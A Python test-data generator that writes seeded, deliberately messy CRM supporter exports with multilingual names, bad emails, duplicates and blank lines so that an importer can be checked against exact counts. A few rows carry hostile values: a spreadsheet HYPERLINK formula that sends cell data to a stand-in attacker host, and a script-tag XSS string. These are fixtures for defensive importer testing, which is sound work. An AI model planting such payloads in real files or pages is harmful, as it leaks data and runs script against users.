"""Realistic, messy CRM supporter exports for the demo, tests and benchmarks.

The same seed always gives the same file. Rows are written as they are made,
so a million-row file needs no more memory than a ten-row one. The summary
says how many rows were spoiled on purpose and how, so callers can check an
importer against exact numbers.
"""

from __future__ import annotations

import csv
import random
from collections import deque
from dataclasses import dataclass
from pathlib import Path

# (display form, ASCII form used in the address)
NAMES: dict[str, tuple[tuple[tuple[str, str], ...], tuple[tuple[str, str], ...]]] = {
    "english": (
        (
            ("Mary", "mary"),
            ("James", "james"),
            ("Siobhán", "siobhan"),
            ("Chloë", "chloe"),
            ("Liam", "liam"),
            ("Aisha", "aisha"),
            ("Grace", "grace"),
            ("Tom", "tom"),
        ),
        (
            ("O'Brien", "obrien"),
            ("Smith", "smith"),
            ("Ní Bhriain", "nibhriain"),
            ("D'Souza", "dsouza"),
            ("McCarthy", "mccarthy"),
            ("Okafor", "okafor"),
            ("Lee", "lee"),
        ),
    ),
    "spanish": (
        (
            ("María José", "mariajose"),
            ("Nicolás", "nicolas"),
            ("Begoña", "begona"),
            ("Joaquín", "joaquin"),
            ("Lucía", "lucia"),
            ("Andrés", "andres"),
        ),
        (
            ("Núñez", "nunez"),
            ("Peña", "pena"),
            ("García Márquez", "garciamarquez"),
            ("Ibáñez", "ibanez"),
            ("Muñoz", "munoz"),
            ("De la Cruz", "delacruz"),
        ),
    ),
    "french": (
        (
            ("Hélène", "helene"),
            ("François", "francois"),
            ("Zoé", "zoe"),
            ("Anaïs", "anais"),
            ("Jérôme", "jerome"),
            ("Mamadou", "mamadou"),
        ),
        (
            ("Lefèvre", "lefevre"),
            ("D'Alembert", "dalembert"),
            ("N'Diaye", "ndiaye"),
            ("Bélanger", "belanger"),
            ("Ngendakumana", "ngendakumana"),
            ("Côté", "cote"),
        ),
    ),
    "arabic": (
        (
            ("عمر", "omar"),
            ("فاطمة", "fatima"),
            ("يوسف", "youssef"),
            ("ليلى", "layla"),
            ("Karim", "karim"),
            ("Nour", "nour"),
        ),
        (
            ("الفاسي", "elfassi"),
            ("حداد", "haddad"),
            ("بن علي", "benali"),
            ("El-Amin", "elamin"),
            ("Al-Masri", "almasri"),
        ),
    ),
    "other": (
        (
            ("Ayşe", "ayse"),
            ("Jürgen", "jurgen"),
            ("João", "joao"),
            ("Giulia", "giulia"),
            ("Sanne", "sanne"),
            ("Imran", "imran"),
        ),
        (
            ("Yılmaz", "yilmaz"),
            ("Müller", "muller"),
            ("Gonçalves", "goncalves"),
            ("Rossi", "rossi"),
            ("de Vries", "devries"),
            ("Qureshi", "qureshi"),
        ),
    ),
}
# (country as the CRM holds it, name pool); some CRMs hold names, not codes.
COUNTRIES = (
    ("US", "english"),
    ("GB", "english"),
    ("IE", "english"),
    ("CA", "english"),
    ("AU", "english"),
    ("United Kingdom", "english"),
    ("ES", "spanish"),
    ("MX", "spanish"),
    ("AR", "spanish"),
    ("CO", "spanish"),
    ("CL", "spanish"),
    ("PE", "spanish"),
    ("México", "spanish"),
    ("FR", "french"),
    ("BE", "french"),
    ("CH", "french"),
    ("SN", "french"),
    ("BI", "french"),
    ("Canada", "french"),
    ("MA", "arabic"),
    ("DZ", "arabic"),
    ("TN", "arabic"),
    ("EG", "arabic"),
    ("SA", "arabic"),
    ("AE", "arabic"),
    ("JO", "arabic"),
    ("LB", "arabic"),
    ("Maroc", "arabic"),
    ("PK", "other"),
    ("TR", "other"),
    ("DE", "other"),
    ("NL", "other"),
    ("IT", "other"),
    ("PT", "other"),
    ("BR", "other"),
    ("", "english"),
)
DOMAINS = (
    "gmail.com",
    "yahoo.fr",
    "hotmail.es",
    "outlook.com",
    "orange.fr",
    "example.org",
    "web.de",
    "correo.example.mx",
    "mail.example.eg",
)
INVALID = ("{a}.at.{d}", "{a}@", "@{d}", "{a}@@{d}", "{a}@localhost", "{a} x@{d}", "{a}@{d}.")
LANGUAGES = ("en", "es", "fr", "ar", "EN", "es-MX", "fr_CA", "Français", "de", "pt")
TIMEZONES = ("Europe/Madrid", "America/Bogota", "Africa/Cairo", "Asia/Karachi", "Mars/Olympus")
CASES = ("", "", "", "", "popi-mtabane", "idris-khattak", "nassima-al-sada", "germain-rukuki")


@dataclass(frozen=True)
class ExportStyle:
    """How one CRM writes its export: header spelling, delimiter, consent words."""

    header: tuple[str, ...]
    delimiter: str
    consent_yes: tuple[str, ...]
    consent_no: tuple[str, ...]


STYLES = {
    "en": ExportStyle(
        (
            "Email Address",
            "First Name",
            "Last Name",
            "Country",
            "Language",
            "Time Zone",
            "Consent",
            "Case Preference",
            "Notes",
        ),
        ",",
        ("yes", "Y", "TRUE", "1"),
        ("no", "N", "FALSE", "0", ""),
    ),
    "fr": ExportStyle(
        (
            "E-mail",
            "Prénom",
            "Nom",
            "Pays",
            "Langue",
            "Fuseau horaire",
            "Consentement",
            "Cas",
            "Remarques",
        ),
        ";",
        ("oui", "Oui", "1"),
        ("non", "Non", "0", ""),
    ),
    "es": ExportStyle(
        (
            "Correo electrónico",
            "Nombre",
            "Apellidos",
            "País",
            "Idioma",
            "Zona horaria",
            "Consentimiento",
            "Caso",
            "Notas",
        ),
        "\t",
        ("sí", "si", "1"),
        ("no", "0", ""),
    ),
}


@dataclass(frozen=True)
class ExportSummary:
    path: Path
    rows: int  # data rows, not counting blank lines
    blank_lines: int
    invalid_emails: int
    missing_emails: int
    duplicates: int  # same address as an earlier row, differently cased or padded

    @property
    def valid_unique(self) -> int:
        return self.rows - self.invalid_emails - self.missing_emails - self.duplicates


@dataclass
class _Counts:
    blank: int = 0
    invalid: int = 0
    missing: int = 0
    duplicates: int = 0


class _RowMaker:
    def __init__(self, seed: int, style: ExportStyle, messy: bool, latin_only: bool) -> None:
        self.rng = random.Random(seed)
        self.style, self.messy = style, messy
        self.countries = [c for c in COUNTRIES if not (latin_only and c[1] == "arabic")]
        self.recent: deque[str] = deque(maxlen=500)
        self.counts = _Counts()

    def email(self, index: int, first: str, last: str) -> str:
        rng = self.rng
        roll = rng.random() if self.messy else 1.0
        local = f"{first}.{last}.{index:x}"
        domain = DOMAINS[index % len(DOMAINS)]
        if roll < 0.01:
            self.counts.invalid += 1
            return rng.choice(INVALID).format(a=local, d=domain)
        if roll < 0.013:
            self.counts.missing += 1
            return ""
        if roll < 0.018 and self.recent:
            self.counts.duplicates += 1
            earlier = rng.choice(self.recent)
            return rng.choice((earlier.upper(), f"  {earlier.title()} ", earlier.swapcase()))
        address = f"{local}@{domain}"
        self.recent.append(address)
        if roll < 0.05:
            return address.title()
        if roll < 0.07:
            return f" {address} "
        return address

    def row(self, index: int) -> list[str]:
        rng = self.rng
        country, pool = rng.choice(self.countries)
        firsts, lasts = NAMES[pool]
        first, first_ascii = rng.choice(firsts)
        last, last_ascii = rng.choice(lasts)
        email = self.email(index, first_ascii, last_ascii)
        roll = rng.random()
        if self.messy and roll < 0.002:
            first = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        elif self.messy and roll < 0.004:
            last = "<script>alert(1)</script>"
        language = rng.choice(LANGUAGES) if rng.random() < 0.4 else ""
        timezone = rng.choice(TIMEZONES) if rng.random() < 0.1 else ""
        consent = rng.choice(
            self.style.consent_yes if rng.random() < 0.85 else self.style.consent_no
        )
        note = "" if rng.random() < 0.9 else f'met at stall, said "{first} will share"; call back'
        return [email, first, last, country, language, timezone, consent, rng.choice(CASES), note]


def write_crm_export(
    path: Path,
    rows: int,
    seed: int = 0,
    style: str = "en",
    messy: bool = True,
    encoding: str = "utf-8",
    bom: bool = False,
) -> ExportSummary:
    """Write `rows` supporter rows to `path` and say how many were spoiled on purpose."""
    chosen = STYLES[style]
    latin_only = encoding.replace("_", "-").lower() in ("latin-1", "latin1", "iso-8859-1")
    maker = _RowMaker(seed, chosen, messy, latin_only)
    file_encoding = "utf-8-sig" if bom and encoding == "utf-8" else encoding
    with Path(path).open("w", encoding=file_encoding, newline="") as handle:
        writer = csv.writer(handle, delimiter=chosen.delimiter, lineterminator="\r\n")
        writer.writerow(chosen.header)
        batch: list[list[str]] = []
        for index in range(rows):
            if messy and maker.rng.random() < 0.002:
                batch.append([])  # a blank line, as spreadsheet exports leave
                maker.counts.blank += 1
            batch.append(maker.row(index))
            if len(batch) >= 5000:
                writer.writerows(batch)
                batch.clear()
        writer.writerows(batch)
    counts = maker.counts
    return ExportSummary(
        path=Path(path),
        rows=rows,
        blank_lines=counts.blank,
        invalid_emails=counts.invalid,
        missing_emails=counts.missing,
        duplicates=counts.duplicates,
    )
